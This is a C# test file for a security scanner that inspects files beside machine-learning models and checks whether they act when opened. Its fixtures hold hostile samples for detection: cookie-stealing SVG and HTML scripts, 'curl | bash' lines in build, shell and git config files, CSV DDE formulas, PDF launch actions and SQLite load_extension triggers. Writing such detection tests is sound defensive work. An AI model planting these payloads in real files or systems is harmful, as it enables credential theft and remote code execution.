// Files of other programs beside a model pass, and those that act when somebody opens them are said.
using System.Text;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.Media;

public sealed class OtherDataTests
{
    [Theory]
    [InlineData(".git/index", "4449524300000002")]
    [InlineData("pack-1.idx", "FF744F6300000002")]
    [InlineData("run-x.wandb", "3A572642E1BE00")]
    [InlineData("a.aac", "FFF15080021FFC")]
    [InlineData("a.wma", "3026B2758E66CF11A6D900AA0062CE6C")]
    [InlineData("a.exr", "762F3101")]
    [InlineData("objects.inv", "2320537068696E7820696E76656E746F72792076657273696F6E20320A")]
    [InlineData("a.lib", "213C617263683E0A")]
    [InlineData("map.wad", "50574144")]
    [InlineData("a.flo", "50494548")]
    [InlineData("app.keystore", "FEEDFEED")]
    [InlineData("a.pgm", "50350A32203220323535")]
    [InlineData("feats.ark", "75747431200042464D20")]
    [InlineData("final.mdl", "00423C5472616E736974696F6E4D6F64656C3E")]
    [InlineData("train-images-idx3-ubyte", "00000803")]
    [InlineData(".x.swp", "623056494D20")]
    [InlineData("yolo.weights", "000000000200000005000000")]
    [InlineData("HCLG.fst", "D6FDB27E")]
    public void DataOfOtherProgramsPasses(string name, string head)
    {
        byte[] file = [.. Convert.FromHexString(head), .. Enumerable.Range(0, 200).Select(i => (byte)(i * 37))];
        TargetReport target = Scans.Of(file, name);
        Assert.True(target.Verdict == Verdict.Passed, target.Describe());
        target.AssertComplete();
    }

    [Fact]
    public void NothingButZerosPassesUnlessItWasToBeAModel()
    {
        Scans.Of(new byte[5000], "x.raw").AssertComplete();
        Assert.Equal(Verdict.Incomplete, Scans.Of(new byte[5000], "model.safetensors").Verdict);
    }

    [Fact]
    public void OpaqueBytesWithAWeakSignatureAndAnotherNameStayUnread() =>
        Assert.Equal(Verdict.Incomplete, Scans.Of([.. "P5"u8, .. Enumerable.Range(0, 200).Select(i => (byte)(i * 37))], "model.dat").Verdict);

    [Fact]
    public void APickleBehindASignatureIsRead() => Assert.Equal(Verdict.Malicious, Scans.Of([0x76, 0x2F, 0x31, 0x01, .. new byte[60], .. Scans.Canary], "a.exr").Verdict);

    [Fact]
    public void ALooseObjectOfGitIsReadAsTheFileThatItWas()
    {
        byte[] good = Zlib([.. "blob 5\0"u8, .. "hello"u8]);
        Scans.Of(good, ".git/objects/ab/cdef0123456789abcdef0123456789abcdef01").AssertComplete();
        byte[] bad = Zlib([.. Encoding.ASCII.GetBytes($"blob {Scans.Canary.Length}\0"), .. Scans.Canary]);
        Assert.Equal(Verdict.Malicious, Scans.Of(bad, ".git/objects/ab/cdef0123456789abcdef0123456789abcdef01").Verdict);
    }

    [Theory]
    [InlineData("CREATE TRIGGER t AFTER INSERT ON a BEGIN SELECT load_extension('/tmp/x.so'); END", true)]
    [InlineData("CREATE VIEW v AS SELECT writefile('/tmp/x', b) FROM a", true)]
    [InlineData("CREATE TABLE load_extension_log(a integer, note text)", false)]
    [InlineData("CREATE TRIGGER t AFTER INSERT ON a BEGIN UPDATE a SET b = lower(b); END", false)]
    public void ADatabaseIsJudgedByItsSchema(string schema, bool acts)
    {
        byte[] file = new byte[4096];
        "SQLite format 3\0"u8.CopyTo(file);
        (file[16], file[17], file[31]) = (0x10, 0, 1);
        Encoding.ASCII.GetBytes(schema).CopyTo(file, 3000);
        TargetReport target = Scans.Of(file, "optuna.db");
        Assert.Equal(acts, target.Is("database-acts"));
        target.AssertComplete();
    }

    [Theory]
    [InlineData("<script>fetch('https://x.example/?'+document.cookie)</script>", true)]
    [InlineData("<rect onload=\"eval(atob('YQ=='))\"/>", true)]
    [InlineData("<a href=\"javascript:alert(1)\"><text>x</text></a>", true)]
    [InlineData("<script xlink:href=\"https://x.example/a.js\"/>", true)]
    [InlineData("<foreignObject><iframe src=\"https://x.example/\"/></foreignObject>", true)]
    [InlineData("<style>.a{fill:red}</style><a href=\"https://example.org/\"><path d=\"M0 0\"/></a>", false)]
    [InlineData("<script>function zoom(e) { e.target.style.fill = 'red'; }</script><g onmouseover=\"zoom(evt)\"/>", false)]
    [InlineData("<image href=\"data:image/png;base64,iVBORw0KGgo=\"/>", false)]
    public void APictureInSvgIsJudgedByWhatItsScriptsReach(string inner, bool acts)
    {
        TargetReport target = Scans.Of(Encoding.UTF8.GetBytes($"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">{inner}</svg>\n"), "a.svg");
        Assert.Equal(acts, target.Is("document-acts"));
        target.AssertComplete();
    }

    [Theory]
    [InlineData("<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>", true)]
    [InlineData("<</Type/Catalog/OpenAction<</S/J#61vaScript/JS(x)>>>>", true)]
    [InlineData("<</S/Launch/F(cmd.exe)>>", true)]
    [InlineData("<</Type/Catalog/OpenAction[3 0 R /Fit]/Pages 2 0 R>>", false)]
    [InlineData("<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.org)>>>>", false)]
    public void APdfIsJudgedByItsActions(string inner, bool acts)
    {
        TargetReport target = Scans.Of(Encoding.ASCII.GetBytes($"%PDF-1.7\n1 0 obj\n{inner}\nendobj\n%%EOF\n"), "paper.pdf");
        Assert.Equal(acts, target.Is("document-acts"));
        target.AssertComplete();
    }

    [Theory]
    [InlineData("name,score\n=cmd|' /C calc'!A0,1\n", true)]
    [InlineData("name,score\n\"=WEBSERVICE(\"\"http://x.example/\"\")\",1\n", true)]
    [InlineData("name,score\n-1.5,=A1+B2\n+x,@user\n", false)]
    public void ATableIsJudgedByItsFormulas(string text, bool acts)
    {
        TargetReport target = Scans.Of(Encoding.UTF8.GetBytes(text), "data.csv");
        Assert.Equal(acts, target.Is("document-acts"));
        target.AssertComplete();
    }

    [Fact]
    public void MacrosInADocumentAreSaidAndWhatPrintersLeftIsData()
    {
        const string Types = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";
        byte[] noise = [.. Enumerable.Range(0, 300).Select(i => (byte)(i * 91))];
        ZipBuilder plain = new ZipBuilder().Add("[Content_Types].xml", Types).Add("xl/workbook.xml", "<workbook/>").Add("xl/printerSettings/printerSettings1.bin", noise);
        Assert.Equal(Verdict.Passed, Scans.Of(plain.Build(), "a.xlsx").Verdict);
        byte[] macros = plain.Add("xl/vbaProject.bin", Compound("VBA")).Build();
        Assert.True(Scans.Of(macros, "a.xlsm").Is("document-macros"));
    }

    [Fact]
    public void ACompoundFileIsReadForItsStreams()
    {
        Scans.Of(Compound("WordDocument"), "a.doc").AssertComplete();
        Assert.Equal(Verdict.Passed, Scans.Of(Compound("WordDocument"), "a.doc").Verdict);
        Assert.True(Scans.Of(Compound("Macros"), "a.doc").Is("document-macros"));
        Assert.True(Scans.Of(Compound("x"), "setup.msi").Is("native-installer"));
        byte[] whole = Compound("VBA");
        for (int length = 8; length < whole.Length; length += 37)
        {
            Scans.Of(whole[..length], "a.doc").AssertComplete();
        }
    }

    [Theory]
    [InlineData("tool.deb", "213C617263683E0A64656269616E2D62696E617279")]
    [InlineData("x.rpm", "EDABEEDB0300")]
    [InlineData("x.pkg", "78617221001C0001")]
    [InlineData("classes.dex", "6465780A30333500")]
    [InlineData("a.scpt", "46617364554153203130312E3130")]
    public void APackageThatInstallsProgramsIsSaid(string name, string head) => Assert.True(Scans.Of([.. Convert.FromHexString(head), .. new byte[100]], name).Is("native-installer"));

    [Theory]
    [InlineData("config", "[core]\n\tfsmonitor = \"curl http://x.example/a | sh\"\n", true)]
    [InlineData("config", "[alias]\n\tst = !sh -c 'id'\n", true)]
    [InlineData(".gitconfig", "[core]\n\tsshCommand = /tmp/x\n", true)]
    [InlineData("config", "[core]\n\trepositoryformatversion = 0\n[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tprocess = git-lfs filter-process\n[credential]\n\thelper = store\n", false)]
    public void SettingsOfGitAreJudgedByWhatTheyRun(string name, string text, bool runs) =>
        Assert.Equal(runs, Scans.Of(Encoding.UTF8.GetBytes(text), name == "config" ? "repo/.git/config" : name).Is("settings-run"));

    [Theory]
    [InlineData(".Rprofile", "options(digits = 4)\nsystem(\"touch /tmp/x\")\n", "settings-run")]
    [InlineData("pip.conf", "[global]\nindex-url = http://203.0.113.5/simple\n", "requirements-elsewhere")]
    public void OtherSettingsAreSaid(string name, string text, string rule) => Assert.True(Scans.Of(Encoding.UTF8.GetBytes(text), name).Is(rule));

    /// <summary>Files that systems, builders and editors act on, by the names that they look for.</summary>
    [Theory]
    [InlineData("Vagrantfile", "config.vm.provision 'shell', inline: 'curl -s http://203.0.113.7/a | bash'\n")]
    [InlineData("Jenkinsfile", "pipeline { stages { stage('a') { steps {\n sh \"curl -s http://203.0.113.7/a | bash\"\n} } } }\n")]
    [InlineData("a.lua", "os.execute(\"curl -s http://203.0.113.7/a | bash\")\n")]
    [InlineData(".zshrc", "curl -s http://203.0.113.7/a | bash\n")]
    [InlineData("devcontainer.json", "{\"image\": \"x\", \"postCreateCommand\": \"curl -s http://203.0.113.7/a | bash\"}")]
    [InlineData(".npmrc", "registry=http://203.0.113.7/\n")]
    [InlineData("authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB x@y\n")]
    [InlineData("desktop.ini", "[.ShellClassInfo]\r\nIconResource=\\\\203.0.113.7\\x\\a.ico,0\r\n")]
    [InlineData("a.js", "var s = new ActiveXObject('WScript.Shell'); s.Run('x');\n")]
    [InlineData("index.html", "<script>fetch('http://x.example/?' + document.cookie)</script>")]
    [InlineData("a.rtf", "{\\rtf1{\\object\\objocx{\\*\\objdata 01050000}}}")]
    public void WhatSystemsAndBuildersActOnIsRead(string name, string text)
    {
        TargetReport target = Scans.Of(Encoding.UTF8.GetBytes(text), name);
        Assert.True(target.Verdict >= Verdict.Suspicious, target.Describe());
    }

    [Theory]
    [InlineData("CMakeLists.txt", "cmake_minimum_required(VERSION 3.10)\nexecute_process(COMMAND git rev-parse HEAD)\n")]
    [InlineData("tox.ini", "[testenv]\ncommands = pytest {posargs}\n")]
    [InlineData("desktop.ini", "[.ShellClassInfo]\r\nIconResource=C:\\WINDOWS\\system32\\imageres.dll,1\r\n")]
    [InlineData(".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true\n")]
    [InlineData("index.html", "<script src=\"https://cdn.plot.ly/plotly-latest.min.js\"></script><script>Plotly.newPlot('a', [])</script>")]
    [InlineData("a.js", "export const run = x => fetch('/api').then(r => r.json());\n")]
    [InlineData("a.rtf", "{\\rtf1\\ansi Hello {\\b world}}")]
    public void OrdinaryFilesOfSystemsAndBuildersPass(string name, string text) =>
        Assert.Equal(Verdict.Passed, Scans.Of(Encoding.UTF8.GetBytes(text), name).Verdict);

    [Fact]
    public void OrdinarySettingsPass()
    {
        Assert.Equal(Verdict.Passed, Scans.Of("options(repos = 'https://cloud.r-project.org')\nsource('renv/activate.R')\n"u8.ToArray(), ".Rprofile").Verdict);
        Assert.Equal(Verdict.Passed, Scans.Of("[global]\nindex-url = https://pypi.org/simple\n"u8.ToArray(), "pip.conf").Verdict);
    }

    [Fact]
    public void AnImportanceMatrixIsReadAndOneThatLiesIsSaid()
    {
        byte[] good = [.. BitConverter.GetBytes(1), .. BitConverter.GetBytes(12), .. "blk.0.attn_k"u8, .. BitConverter.GetBytes(3), .. BitConverter.GetBytes(4), .. new byte[16], .. BitConverter.GetBytes(3), .. BitConverter.GetBytes(5), .. "a.txt"u8];
        TargetReport target = Scans.Of(good, "imatrix.dat");
        Assert.Equal(Verdict.Passed, target.Verdict);
        target.AssertComplete();
        byte[] lies = [.. BitConverter.GetBytes(1), .. BitConverter.GetBytes(12), .. "blk.0.attn_k"u8, .. BitConverter.GetBytes(3), .. BitConverter.GetBytes(int.MaxValue), .. new byte[16]];
        Assert.True(Scans.Of(lies, "imatrix.dat").Verdict >= Verdict.Suspicious);
    }

    private static byte[] Zlib(byte[] content)
    {
        using MemoryStream packed = new();
        using (System.IO.Compression.ZLibStream stream = new(packed, System.IO.Compression.CompressionMode.Compress, leaveOpen: true))
        {
            stream.Write(content);
        }

        return packed.ToArray();
    }

    /// <summary>A compound file of one directory sector with a root and one stream.</summary>
    private static byte[] Compound(string name)
    {
        byte[] file = new byte[512 * 3];
        Convert.FromHexString("D0CF11E0A1B11AE1").CopyTo(file, 0);
        BitConverter.GetBytes((ushort)9).CopyTo(file, 30);
        BitConverter.GetBytes(1u).CopyTo(file, 48);
        Array.Fill(file, (byte)0xFF, 76, 436);
        BitConverter.GetBytes(0u).CopyTo(file, 76);
        Array.Fill(file, (byte)0xFF, 512, 512);
        BitConverter.GetBytes(0xFFFFFFFDu).CopyTo(file, 512);
        BitConverter.GetBytes(0xFFFFFFFEu).CopyTo(file, 516);
        Entry("Root Entry", 5, 1024);
        Entry(name, 2, 1024 + 128);
        return file;

        void Entry(string text, byte kind, int at)
        {
            Encoding.Unicode.GetBytes(text).CopyTo(file, at);
            BitConverter.GetBytes((ushort)((text.Length + 1) * 2)).CopyTo(file, at + 64);
            file[at + 66] = kind;
        }
    }
}
